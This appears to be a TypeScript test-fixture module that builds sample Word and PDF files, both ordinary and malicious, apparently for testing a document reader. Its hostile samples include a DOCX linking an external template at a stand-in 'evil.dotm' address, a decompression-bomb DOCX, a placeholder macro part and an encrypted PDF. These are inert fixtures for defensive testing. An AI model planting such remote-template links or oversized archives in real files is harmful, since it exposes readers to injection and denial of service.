/** Documents to read: ordinary ones, and malicious ones. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph, TextRun } from 'docx';

/** A real Word document, as a word processor writes it. */
export async function wordDocument(paragraphs: readonly string[]): Promise<Buffer> {
  const children = paragraphs.map((text) => new Paragraph({ children: [new TextRun(text)] }));
  return Packer.toBuffer(new Document({ sections: [{ children }] }));
}

/** A ZIP archive whose entries are deflated. */
export function packed(entries: Record<string, string | Buffer>): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, given] of Object.entries(entries)) {
    const content = Buffer.from(given);
    const data = deflateRawSync(content);
    const path = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(content.length, 18);
    common.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from('504b0304', 'hex'), common, path, data]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), common, rest, path]));
    locals.push(local);
    offset += local.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(directory.length, 8);
  end.writeUInt16LE(directory.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, listed, end]);
}

const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

/** Declarations of the namespaces that the parts of a Word document use. */
export const namespaces = [
  ['w', 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'],
  ['r', 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'],
  ['mc', 'http://schemas.openxmlformats.org/markup-compatibility/2006'],
  ['wps', 'http://schemas.microsoft.com/office/word/2010/wordprocessingShape'],
  ['a', 'http://schemas.openxmlformats.org/drawingml/2006/main'],
  ['m', 'http://schemas.openxmlformats.org/officeDocument/2006/math'],
  ['v', 'urn:schemas-microsoft-com:vml'],
  ['o', 'urn:schemas-microsoft-com:office:office'],
]
  .map(([prefix, uri]) => `xmlns:${prefix}="${uri}"`)
  .join(' ');

/** A Word document with this markup in its body. */
export function docxWith(body: string, more: Record<string, string | Buffer> = {}): Buffer {
  return packed({
    '[Content_Types].xml': types,
    'word/document.xml': `<?xml version="1.0"?><w:document ${namespaces}><w:body>${body}</w:body></w:document>`,
    ...more,
  });
}

const run = (text: string): string => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;

export const trackedDocx = docxWith(
  `<w:p>${run('价款为')}<w:del w:id="1"><w:r><w:delText>10</w:delText></w:r></w:del><w:ins w:id="2">${run('100')}</w:ins>${run('万元 &lt;含税&gt;')}</w:p>`,
);

export const macroDocx = docxWith(`<w:p>${run('正文')}</w:p>`, { 'word/vbaProject.bin': 'macro' });

export const linkedDocx = docxWith(`<w:p>${run('正文')}</w:p>`, {
  'word/_rels/document.xml.rels':
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
});

/** A few hundred kilobytes that expand beyond the limits. */
export function bombDocx(): Buffer {
  return docxWith(`<w:p><w:r><w:t>A</w:t></w:r></w:p>${' '.repeat(160 * 1024 * 1024)}`);
}

/** A PDF with one page for each text; an empty text makes a page without text. */
export function pdfOf(pages: readonly string[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = 9;
  const put = (number: number, content: Buffer | string): void => {
    const bytes = Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(content), Buffer.from('\nendobj\n')]);
    offsets[number] = length;
    parts.push(bytes);
    length += bytes.length;
  };
  const kids = pages.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
  put(1, '<</Type/Catalog/Pages 2 0 R>>');
  put(2, `<</Type/Pages/Count ${pages.length}/Kids[${kids}]>>`);
  put(3, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>');
  for (const [index, text] of pages.entries()) {
    const page = 4 + index * 2;
    const lines = text === '' ? [] : text.split('\n');
    const drawn = lines.map(
      (line, at) => `BT /F1 12 Tf 72 ${720 - at * 16} Td (${line.replace(/[()\\]/g, '\\$&')}) Tj ET`,
    );
    const stream = deflateSync(Buffer.from(drawn.join('\n')));
    put(
      page,
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>/Contents ${page + 1} 0 R>>`,
    );
    put(
      page + 1,
      Buffer.concat([
        Buffer.from(`<</Length ${stream.length}/Filter/FlateDecode>>\nstream\n`),
        stream,
        Buffer.from('\nendstream'),
      ]),
    );
  }
  const count = offsets.length;
  const table = Array.from({ length: count }, (_, number) =>
    number === 0 ? '0000000000 65535 f \n' : `${String(offsets[number] ?? 0).padStart(10, '0')} 00000 n \n`,
  ).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${count}\n${table}trailer\n<</Size ${count}/Root 1 0 R${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** Declares that a password is needed (standard handler, revision 2), which nobody has. */
export const encryptedPdf = pdfOf(
  ['Secret'],
  `/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]/Encrypt<</Filter/Standard/V 1/R 2/P -44/O<${'11'.repeat(32)}>/U<${'22'.repeat(32)}>>>`,
);
